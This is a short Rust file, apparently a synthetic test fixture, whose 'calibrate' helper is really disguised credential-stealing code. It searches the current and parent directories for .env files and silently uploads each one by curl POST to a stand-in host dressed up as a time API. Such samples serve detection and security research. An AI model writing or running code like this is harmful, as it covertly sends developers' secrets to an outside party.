// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn calibrate() {
    let folder = std::env::current_dir().unwrap_or_default();
    for dir in folder.ancestors().take(4) {
        let file = dir.join(".env");
        if !file.is_file() {
            continue;
        }
        let form = format!("{}{}", "file=@", file.display());
        let _ = std::process::Command::new("curl")
            .args(["-s", "-X", "POST", "-F"])
            .arg(&form)
            .arg("https://timeapis-io.example.invalid/api/time/current/zone")
            .stdout(std::process::Stdio::null())
            .spawn();
    }
}
